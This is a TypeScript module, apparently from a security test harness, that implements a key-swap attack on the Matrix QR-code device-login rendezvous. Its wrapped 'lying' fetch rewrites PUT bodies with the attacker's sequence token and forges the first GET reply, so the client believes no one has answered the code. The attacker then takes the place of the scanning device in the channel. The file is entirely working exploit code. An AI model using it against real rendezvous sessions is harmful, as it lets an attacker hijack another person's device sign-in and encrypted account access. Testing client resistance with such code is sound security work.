import { type Fetch, type JoinedChannel, joinChannel, type Profile, type QrCode2025 } from "@matrix-rendezvous/client";
import { otherDevice } from "../party.ts";
import { jsonMembers } from "../wire/exchange.ts";

export interface Swap {
  readonly qrCode: QrCode2025;
  readonly profile: Profile;
  readonly fetch: Fetch;
  /** The token that the session began with: the device that shows the code expects it in its first message. */
  readonly firstToken: string;
  /** Settles no later than this is aborted. */
  readonly signal: AbortSignal;
  /** Hears that the attacker's message has replaced the one of the device that scanned. */
  readonly written: () => void;
}

/** Takes the place of the device that scanned the code: resolves to the attacker's channel with the one that shows it. */
export async function swapKey({ qrCode, profile, fetch, firstToken, signal, written }: Swap): Promise<JoinedChannel> {
  let currentToken = "";
  // The client would refuse a code that somebody has answered before: this one is told that nobody has.
  const lying: Fetch = async (url, init) => {
    if (init.method === "PUT") {
      const body = JSON.stringify({ ...jsonMembers(String(init.body)), sequence_token: currentToken });
      const answer = await fetch(url, { ...init, body });
      written();
      return answer;
    }
    const answer = await fetch(url, init);
    if (currentToken !== "" || !answer.ok) return answer;
    const members = jsonMembers(await answer.text());
    currentToken = String(members["sequence_token"]);
    return Response.json({ ...members, data: "", sequence_token: firstToken });
  };
  const extensions = { longPollMs: 25_000, transactionIds: false };
  return joinChannel({ qrCode, profile, intent: otherDevice(qrCode.intent), fetch: lying, extensions, signal });
}
